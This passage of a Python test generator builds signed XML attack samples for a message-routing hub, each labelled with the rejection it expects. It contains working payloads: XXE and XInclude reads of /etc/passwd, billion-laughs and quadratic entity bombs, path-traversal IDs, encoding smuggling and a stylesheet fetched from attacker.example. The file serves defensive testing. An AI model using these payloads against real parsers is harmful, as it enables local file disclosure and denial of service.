    declarations: a relaying party can change their meaning without touching the signed bytes.""",
)
def _inclusive_method(ctx: Context) -> bytes:
    return serialize(ctx.sign(ctx.message(), c14n=C14N))


@_attack(
    "c14n-inclusive-as-transform",
    "UNSUPPORTED_ALGORITHM",
    """The Reference's last transform is inclusive c14n 1.0 (CanonicalizationMethod is exclusive c14n).""",
)
def _inclusive_transform(ctx: Context) -> bytes:
    return serialize(ctx.sign(ctx.message(), transforms=[_transform(ENVELOPED), _transform(C14N)]))


@_attack(
    "c14n-with-comments-as-canonicalization-method",
    "UNSUPPORTED_ALGORITHM",
    """SignedInfo is canonicalized with exclusive c14n with comments.""",
)
def _comments_method(ctx: Context) -> bytes:
    return serialize(ctx.sign(ctx.message(), c14n=EXC_C14N_WITH_COMMENTS))


@_attack(
    "c14n-with-comments-as-transform",
    "UNSUPPORTED_ALGORITHM",
    """The Reference's last transform is exclusive c14n with comments: comments become part of what is
    signed.""",
)
def _comments_transform(ctx: Context) -> bytes:
    transforms = [_transform(ENVELOPED), _transform(EXC_C14N_WITH_COMMENTS)]
    return serialize(ctx.sign(ctx.message(), transforms=transforms))


# DTDs and entities (refused before the parser sees them)


@_attack(
    "dtd-internal-entity",
    "FORBIDDEN_XML_CONSTRUCT",
    """A DOCTYPE declares an internal entity and From is &sender;, which expands to DE: the signature verifies
    for a reader that expands entities, and a reader that does not sees an empty From.""",
)
def _internal_entity(ctx: Context) -> bytes:
    data = ctx.signed_bytes().replace(b"<From>DE</From>", b"<From>&sender;</From>")
    return _with_prolog(data, b'<!DOCTYPE Message [<!ENTITY sender "DE">]>\n')


@_attack(
    "dtd-external-entity",
    "FORBIDDEN_XML_CONSTRUCT",
    """XXE: an external entity SYSTEM "file:///etc/passwd" used as PointOfExit, to make the hub read a local
    file into the message it routes or records.""",
)
def _external_entity(ctx: Context) -> bytes:
    data = _point_of_exit(ctx.signed_bytes(), b"&xxe;")
    return _with_prolog(data, b'<!DOCTYPE Message [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n')


@_attack(
    "dtd-billion-laughs",
    "FORBIDDEN_XML_CONSTRUCT",
    """Billion laughs: ten nested entities, each ten of the one before, in PointOfExit: under 1 KiB that expands
    to 3 GB.""",
)
def _billion_laughs(ctx: Context) -> bytes:
    entities = [b'<!ENTITY lol0 "lol">']
    entities += [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">'.encode() for i in range(1, 10)]
    doctype = b"<!DOCTYPE Message [\n  " + b"\n  ".join(entities) + b"\n]>\n"
    return _with_prolog(_point_of_exit(ctx.signed_bytes(), b"&lol9;"), doctype)


@_attack(
    "dtd-quadratic-blowup",
    "FORBIDDEN_XML_CONSTRUCT",
    """Quadratic blow-up: one entity of 50 000 characters referenced 20 000 times in PointOfExit, 110 KB that
    expand to 1 GB without any nesting for a parser to notice.""",
)
def _quadratic(ctx: Context) -> bytes:
    doctype = b'<!DOCTYPE Message [<!ENTITY a "' + b"a" * 50_000 + b'">]>\n'
    return _with_prolog(_point_of_exit(ctx.signed_bytes(), b"&a;" * 20_000), doctype)


# Size and depth


DEPTH = 100_000


@_attack(
    "size-deep-nesting",
    "MALFORMED_XML",
    """100 000 nested elements in PointOfExit (700 KB, under the size limit): libxml2 without XML_PARSE_HUGE
    stops at depth 256, so the hub answers at once instead of recursing.""",
)
def _deep(ctx: Context) -> bytes:
    return _point_of_exit(ctx.signed_bytes(), b"<x>" * DEPTH + b"</x>" * DEPTH)


@_attack(
    "size-huge-attribute",
    "SCHEMA_INVALID",
    """The ExportAuthorization carries an undeclared attribute of almost 1 MiB, so that the message is exactly
    the hub's limit: it reaches the parser and the schema (signed by DE after the attribute was added).""",
)
def _huge_attribute(ctx: Context) -> bytes:
    def make(n: int) -> bytes:
        message = ctx.message()
        _find(message, "Body/ExportAuthorization").set("note", "A" * n)
        return serialize(ctx.sign(message))

    return _fill(ctx.max_bytes, make)


@_attack(
    "size-huge-text",
    "SCHEMA_INVALID",
    """PointOfExit (at most 512 characters) holds a text of almost 1 MiB, so that the message is exactly the
    hub's limit: it reaches the parser and the schema (signed by DE after the text was written).""",
)
def _huge_text(ctx: Context) -> bytes:
    def make(n: int) -> bytes:
        message = ctx.message()
        _find(message, "Body/ExportAuthorization/PointOfExit").text = "A" * n
        return serialize(ctx.sign(message))

    return _fill(ctx.max_bytes, make)


def _padded(ctx: Context, n: int) -> bytes:
    """A valid signed message with n spaces between the XML declaration and the root element."""
    return _with_prolog(ctx.signed_bytes(), b" " * n)


@_attack(
    "size-one-byte-over-limit",
    "MESSAGE_TOO_LARGE",
    """A valid signed message padded with spaces before its root element to the hub's limit plus one byte: the
    size alone refuses it, before any parsing.""",
)
def _over_limit(ctx: Context) -> bytes:
    return _fill(ctx.max_bytes + 1, lambda n: _padded(ctx, n))


@_attack(
    "control-size-exactly-at-limit",
    ACCEPTED,
    """Positive control: the same valid signed message padded to exactly the hub's limit is accepted and routed
    unchanged.""",
)
def _at_limit(ctx: Context) -> bytes:
    return _fill(ctx.max_bytes, lambda n: _padded(ctx, n))


# Encodings and bytes


@_attack(
    "encoding-utf-16-with-bom",
    "MALFORMED_XML",
    """The signed message re-encoded as UTF-16 (little-endian, with a byte order mark and encoding='UTF-16'):
    the same document and a valid signature, but the contract requires UTF-8.""",
)
def _utf16(ctx: Context) -> bytes:
    text = ctx.signed_bytes().decode("utf-8").replace("encoding='UTF-8'", "encoding='UTF-16'", 1)
    return b"\xff\xfe" + text.encode("utf-16-le")


@_attack(
    "encoding-iso-8859-1",
    "MALFORMED_XML",
    """The signed message re-encoded as ISO-8859-1 and declared so (ü is the byte FC): a valid signature, but
    not UTF-8.""",
)
def _latin1(ctx: Context) -> bytes:
    text = ctx.signed_bytes().decode("utf-8").replace("encoding='UTF-8'", "encoding='ISO-8859-1'", 1)
    return text.encode("iso-8859-1")


@_attack(
    "encoding-iso-8859-1-declared-over-utf-8",
    "MALFORMED_XML",
    """UTF-8 bytes declared as ISO-8859-1: a reader that obeys the declaration reads "fÃ¼r" where a UTF-8
    reader reads "für", two readers and two documents.""",
)
def _latin1_declared(ctx: Context) -> bytes:
    return ctx.signed_bytes().replace(b"encoding='UTF-8'", b"encoding='ISO-8859-1'", 1)


@_attack(
    "encoding-invalid-utf-8",
    "MALFORMED_XML",
    """An overlong UTF-8 sequence (C0 BC, a disguised '<') inside the importer's City: a byte filter misses it
    and a lax decoder turns it into markup.""",
)
def _invalid_utf8(ctx: Context) -> bytes:
    return ctx.signed_bytes().replace(b"Pratteln", b"Pratt\xc0\xbceln", 1)


@_attack(
    "encoding-nul-byte",
    "MALFORMED_XML",
    """To is "CH", a NUL byte, then "IN": a reader with C strings sees CH, another sees CHIN.""",
)
def _nul(ctx: Context) -> bytes:
    return ctx.signed_bytes().replace(b"<To>CH</To>", b"<To>CH\x00IN</To>", 1)


# The header


@_attack(
    "header-message-id-not-a-uuid",
    "SCHEMA_INVALID",
    """MessageId (and the AMQP message_id) is a path, ../../../etc/passwd, signed by DE: it must never become a
    file name or a key.""",
)
def _message_id(ctx: Context) -> bytes:
    return ctx.signed_bytes(message_id="../../../etc/passwd")


@_attack(
    "header-created-at-without-time-zone",
    "SCHEMA_INVALID",
    """CreatedAt is the sending time without a time zone: its instant depends on where it is read.""",
)
def _no_zone(ctx: Context) -> bytes:
    return ctx.signed_bytes(created_at=ctx.now.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S"))


def _in_zone(instant: datetime, hours: int) -> str:
    return instant.astimezone(timezone(timedelta(hours=hours))).isoformat(timespec="seconds")


@_attack(
    "control-created-at-plus-14",
    ACCEPTED,
    """Positive control: CreatedAt is the sending time written in the zone +14:00 (Line Islands), the largest
    offset xs:dateTime allows; fresh, so accepted.""",
)
def _plus_14(ctx: Context) -> bytes:
    return ctx.signed_bytes(created_at=_in_zone(ctx.now, 14))


@_attack(
    "control-created-at-minus-12",
    ACCEPTED,
    """Positive control: CreatedAt is the sending time written in the zone -12:00 (Baker Island); fresh, so
    accepted.""",
)
def _minus_12(ctx: Context) -> bytes:
    return ctx.signed_bytes(created_at=_in_zone(ctx.now, -12))


@_attack(
    "control-created-at-hour-24",
    ACCEPTED,
    """Positive control: CreatedAt is the last midnight written as 24:00:00 of the day before, a valid
    xs:dateTime (XML Schema 1.0 allows hour 24 with zero minutes and seconds) that the schema accepts and that
    lies within the replay window.""",
)
def _hour_24(ctx: Context) -> bytes:
    yesterday = ctx.now.astimezone(UTC).date() - timedelta(days=1)
    return ctx.signed_bytes(created_at=f"{yesterday.isoformat()}T24:00:00Z")


@_attack(
    "header-created-at-year-9999",
    "STALE_MESSAGE",
    """CreatedAt is 9999-12-31T23:59:59Z: a message that would never grow old enough to leave the replay
    window.""",
)
def _year_9999(ctx: Context) -> bytes:
    return ctx.signed_bytes(created_at="9999-12-31T23:59:59Z")


@_attack(
    "header-created-at-beyond-year-9999-in-utc",
    "STALE_MESSAGE",
    """CreatedAt is 9999-12-31T23:59:59-12:00, a valid xs:dateTime whose instant in UTC falls in the year 10000,
    which many date libraries cannot hold.""",
)
def _beyond_9999(ctx: Context) -> bytes:
    return ctx.signed_bytes(created_at="9999-12-31T23:59:59-12:00")


@_attack(
    "header-created-at-before-year-1-in-utc",
    "STALE_MESSAGE",
    """CreatedAt is 0001-01-01T00:00:00+14:00, a valid xs:dateTime whose instant in UTC falls in the year 0,
    which many date libraries cannot hold.""",
)
def _before_year_1(ctx: Context) -> bytes:
    return ctx.signed_bytes(created_at="0001-01-01T00:00:00+14:00")


# Other constructs


@_attack(
    "processing-instruction",
    "FORBIDDEN_XML_CONSTRUCT",
    """An xml-stylesheet processing instruction before the root element, pointing at an attacker's
    stylesheet that a viewer or a careless reader would fetch and apply.""",
)
def _processing_instruction(ctx: Context) -> bytes:
    instruction = b'<?xml-stylesheet type="text/xsl" href="https://attacker.example/render.xsl"?>\n'
    return _with_prolog(ctx.signed_bytes(), instruction)


@_attack(
    "xinclude",
    "SCHEMA_INVALID",
    """PointOfExit holds an xi:include of file:///etc/passwd (parse="text"): a reader that processes XInclude
    pastes a local file into the document it records or forwards (signed by DE after the element was added).""",
)
def _xinclude(ctx: Context) -> bytes:
    message = ctx.message()
    point_of_exit = _find(message, "Body/ExportAuthorization/PointOfExit")
    point_of_exit.text = None
    etree.SubElement(
        point_of_exit,
        f"{{{XINCLUDE_NS}}}include",
        href="file:///etc/passwd",
        parse="text",
        nsmap={"xi": XINCLUDE_NS},
    )
    return serialize(ctx.sign(message))


@_attack(
    "xsi-type-substitution",
    "SCHEMA_INVALID",
    """The first Item declares xsi:type="PrecursorItem", a type derived from Item by restriction, to make the
    validator check it against another type than the one the contract names (signed by DE).""",
)
def _xsi_type(ctx: Context) -> bytes:
    message = ctx.message()
    item = _find(message, "Body/ExportAuthorization/Items/Item")
    # A new element declaring xsi, so that the prefix sits on the Item and is visible in the sample.
    substitute = etree.Element(item.tag, nsmap={None: DOCUMENT_NS, "xsi": XSI_NS})  # type: ignore[dict-item]
    substitute.attrib.update(item.attrib)
    substitute.set(f"{{{XSI_NS}}}type", "PrecursorItem")
    substitute.extend(list(item))
    _find(message, "Body/ExportAuthorization/Items").replace(item, substitute)
    return serialize(ctx.sign(message))


# --------------------------------------------------------------------------------------------
# Entry points
# --------------------------------------------------------------------------------------------


def build(name: str, keys: Keys, now: datetime, *, message_id: str | None = None, max_bytes: int = MAX_BYTES) -> bytes:
    """The bytes of one attack, signed with ``keys`` and dated ``now``."""
    context = Context(keys=keys, now=now, message_id=message_id or str(uuid.uuid4()), max_bytes=max_bytes)
    return ATTACKS[name].make(context)


def sample(name: str, keys: Keys | None = None) -> bytes:
    """The sample file of one attack: the fixed test keys, the fixed time, a MessageId from the name."""
    return build(name, keys or fixed_keys(), FIXED_NOW, message_id=fixed_message_id(name))


def write_catalogue(directory: Path = HERE) -> None:
    """Write every sample file and index.csv, and remove sample files of attacks no longer listed."""
    keys = fixed_keys()
    for stale in directory.glob("*.xml"):
        if stale.stem not in ATTACKS:
            stale.unlink()
    for name in ATTACKS:
        (directory / f"{name}.xml").write_bytes(sample(name, keys))
    with (directory / INDEX.name).open("w", newline="", encoding="utf-8") as index:
        writer = csv.writer(index, lineterminator="\n")
        writer.writerow(["file", "expected", "description"])
        for attack in ATTACKS.values():
            writer.writerow([f"{attack.name}.xml", attack.expected, attack.description])


if __name__ == "__main__":
    write_catalogue()
    print(f"wrote {len(ATTACKS)} attacks and {INDEX.name} to {HERE}")
